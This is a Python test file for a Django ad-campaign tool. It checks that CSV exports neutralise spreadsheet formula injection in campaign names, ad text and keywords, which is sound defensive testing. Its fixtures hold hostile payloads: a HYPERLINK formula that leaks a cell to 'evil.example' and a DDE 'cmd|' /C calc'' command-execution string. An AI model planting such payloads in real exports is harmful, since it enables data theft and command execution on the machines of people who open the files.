"""Hostile text in the exports: a spreadsheet opening a CSV export never runs a cell as a formula.

Names (campaign, ad group, negative list) are written with a leading apostrophe and come back whole through the
account import; ad text and keywords starting with a formula's first character are left out of every export, with
the reason, and refused by the shared validator that generation and suggestion edits use (docs/security.md).
"""

from __future__ import annotations

import csv
import io

import pytest

from campaigns.exporters.google_ads_api import as_json, build_request
from campaigns.exporters.google_editor import export_google_editor
from campaigns.exporters.microsoft_bulk import export_microsoft_bulk
from campaigns.models import Ad, AdGroup, Campaign, Keyword, NegativeKeywordList
from campaigns.services.account_import import import_account
from ml.ad_rules import Rules, check_text

pytestmark = pytest.mark.django_db

STARTS = ["=", "+", "-", "@", "\t", "\r"]
PAYLOAD = 'HYPERLINK("https://evil.example/?leak="&A1,"Ver")'
HEADLINES = ["Cemento Cola Rápido", "Entrega en 24 horas", "Precios de Fábrica"]
DESCRIPTIONS = ["Cemento cola flexible para interior y exterior.", "Pide hoy y recibe mañana en toda la península."]
EXPORTS = {"google": export_google_editor, "microsoft": export_microsoft_bulk}


def names_account(organization, start: str, platform: str = "google") -> Campaign:
    """A valid account whose campaign, ad group and negative list are named like a formula."""
    campaign = Campaign.objects.create(
        organization=organization,
        platform=platform,
        name=f"{start}{PAYLOAD}",
        daily_budget_micros=40_000_000,
        language="es",
    )
    ad_group = AdGroup.objects.create(campaign=campaign, name=f"{start}SUM(1+1)*cmd|' /C calc'!A0")
    Keyword.objects.create(
        organization=organization, ad_group=ad_group, campaign=campaign, text="cemento cola", match_type="exact"
    )
    Ad.objects.create(
        ad_group=ad_group,
        headlines=[{"text": t, "pin": None} for t in HEADLINES],
        descriptions=[{"text": t, "pin": None} for t in DESCRIPTIONS],
        final_url="https://materiales.example/cemento",
    )
    shared = NegativeKeywordList.objects.create(organization=organization, name=f"{start}1+2")
    shared.campaigns.add(campaign)
    Keyword.objects.create(
        organization=organization,
        level="shared_list",
        shared_list=shared,
        text="gratis",
        match_type="exact",
        negative=True,
    )
    return campaign


def cells(content: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for cell in row]


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def formula_cells(content: bytes) -> list[str]:
    """Cells a spreadsheet would run: starting with a formula character and not a plain number (bulk ids are -5)."""
    return [cell for cell in cells(content) if cell[:1] in STARTS and not is_number(cell)]


@pytest.mark.parametrize("platform", ["google", "microsoft"])
@pytest.mark.parametrize("start", STARTS, ids=["equals", "plus", "minus", "at", "tab", "cr"])
def test_names_starting_like_a_formula_are_text_in_the_csv_exports(organization, platform, start):
    names_account(organization, start, platform)
    content, account = EXPORTS[platform](organization)
    assert account.problems == []
    assert formula_cells(content) == []
    written = cells(content)
    assert f"'{start}{PAYLOAD}" in written
    assert f"'{start}1+2" in written
    assert f"'{start}SUM(1+1)*cmd|' /C calc'!A0" in written


@pytest.mark.parametrize("platform", ["google", "microsoft"])
@pytest.mark.parametrize("start", STARTS, ids=["equals", "plus", "minus", "at", "tab", "cr"])
def test_neutralised_names_come_back_whole_through_the_account_import(
    organization, other_organization, tmp_path, platform, start
):
    names_account(organization, start, platform)
    content, _ = EXPORTS[platform](organization)
    path = tmp_path / "export.csv"
    path.write_bytes(content)
    import_account(other_organization, path)
    if platform == "microsoft" and start == "\r":
        start = "\n"  # the SDK reads the file with universal newlines: a carriage return comes back as a line feed
    assert list(Campaign.objects.filter(organization=other_organization).values_list("name", flat=True)) == [
        f"{start}{PAYLOAD}"
    ]
    assert list(AdGroup.objects.filter(campaign__organization=other_organization).values_list("name", flat=True)) == [
        f"{start}SUM(1+1)*cmd|' /C calc'!A0"
    ]
    assert list(NegativeKeywordList.objects.filter(organization=other_organization).values_list("name", flat=True)) == [
        f"{start}1+2"
    ]


def test_a_hand_made_editor_file_keeps_a_leading_sign_and_a_real_apostrophe(organization, tmp_path):
    """Only our own apostrophe (before a formula character) is taken away: "+Marca" and "'Clásicos'" stay."""
    path = tmp_path / "editor.csv"
    path.write_text("Campaign,Campaign Daily Budget\r\n+Marca,10.00\r\n'Clásicos',5.00\r\n", encoding="utf-8")
    import_account(organization, path)
    assert sorted(Campaign.objects.filter(organization=organization).values_list("name", flat=True)) == [
        "'Clásicos'",
        "+Marca",
    ]


def ad_with(ad_group: AdGroup, field: str, text: str) -> Ad:
    assets = {
        "headlines": [{"text": t, "pin": None} for t in HEADLINES],
        "descriptions": [{"text": t, "pin": None} for t in DESCRIPTIONS],
        "path1": "cemento",
        "path2": "cola",
    }
    if field in ("path1", "path2"):
        assets[field] = text
    else:
        assets[field][0]["text"] = text
    return Ad.objects.create(ad_group=ad_group, final_url="https://materiales.example/cemento", **assets)


AD_FIELDS = {"headlines": "1+1", "descriptions": 'hyperlink("https://evil.example")', "path1": "A1", "path2": "B2"}


@pytest.mark.parametrize("field", sorted(AD_FIELDS))
@pytest.mark.parametrize("start", STARTS, ids=["equals", "plus", "minus", "at", "tab", "cr"])
def test_ad_text_starting_like_a_formula_is_left_out_of_every_export(organization, field, start):
    campaign = Campaign.objects.create(
        organization=organization, platform="google", name="Cemento", daily_budget_micros=40_000_000
    )
    ad_group = AdGroup.objects.create(campaign=campaign, name="Cemento cola")
    hostile = f"{start}{AD_FIELDS[field]}"
    ad = ad_with(ad_group, field, hostile)
    where = f"campaign 'Cemento' › ad group 'Cemento cola' › ad {ad.pk}"
    for platform, export in EXPORTS.items():
        content, account = export(organization)
        assert [(p.item, p.rule) for p in account.problems] == [(where, "formula_start")], platform
        assert formula_cells(content) == [], platform
        assert AD_FIELDS[field] not in content.decode("utf-8-sig"), platform
    mutate, account = build_request(organization, "123")
    assert [(p.item, p.rule) for p in account.problems] == [(where, "formula_start")]
    assert AD_FIELDS[field] not in str(as_json(mutate))


# "=" and "@" are also characters Google refuses anywhere in a keyword; a keyword's tab or carriage return is
# whitespace, which the model folds to one space when it saves it, so such a keyword cannot start with one.
KEYWORD_RULES = {
    "=": ["formula_start", "invalid_character"],
    "+": ["formula_start"],
    "-": ["formula_start"],
    "@": ["formula_start", "invalid_character"],
    "\t": [],
    "\r": [],
}


@pytest.mark.parametrize("negative", [False, True], ids=["keyword", "negative"])
@pytest.mark.parametrize("start", STARTS, ids=["equals", "plus", "minus", "at", "tab", "cr"])
def test_keywords_starting_like_a_formula_are_left_out_of_every_export(organization, negative, start):
    campaign = Campaign.objects.create(
        organization=organization, platform="google", name="Cemento", daily_budget_micros=40_000_000
    )
    ad_group = AdGroup.objects.create(campaign=campaign, name="Cemento cola")
    keyword = Keyword.objects.create(
        organization=organization,
        ad_group=ad_group,
        campaign=campaign,
        text=f"{start}1 saco",
        match_type="exact",
        negative=negative,
    )
    rules = KEYWORD_RULES[start]
    assert keyword.text == ("1 saco" if not rules else f"{start}1 saco")
    for platform, export in EXPORTS.items():
        content, account = export(organization)
        assert [p.rule for p in account.problems] == rules, platform
        assert formula_cells(content) == [], platform
        assert ("1 saco" in content.decode("utf-8-sig")) is (not rules), platform
    mutate, account = build_request(organization, "123")
    assert [p.rule for p in account.problems] == rules
    assert ("1 saco" in str(as_json(mutate))) is (not rules)


@pytest.mark.parametrize("field", ["headlines", "descriptions", "path1"])
@pytest.mark.parametrize("start", STARTS, ids=["equals", "plus", "minus", "at", "tab", "cr"])
def test_the_shared_validator_refuses_ad_text_starting_like_a_formula(field, start):
    """The same rule stops a generated line and a marketer's edit of a suggestion, before anything is stored."""
    violations = check_text(f"{start}1+1 cemento", field, 0, Rules())
    assert [(v.field, v.reason) for v in violations] == [(field, "formula_start")]
    assert violations[0].detail.endswith("which a spreadsheet opening the export runs as a formula")


def test_the_csv_download_over_the_api_carries_the_neutralised_names(organization, owner, client):
    names_account(organization, "=")
    client.force_login(owner)
    for name in ("export-google-editor", "export-microsoft-bulk"):
        response = client.get(f"/api/exports/{name.removeprefix('export-')}/", {"organization": organization.pk})
        assert response.status_code == 200, name
        assert formula_cells(response.content) == [], name
        assert f"'={PAYLOAD}" in cells(response.content), name
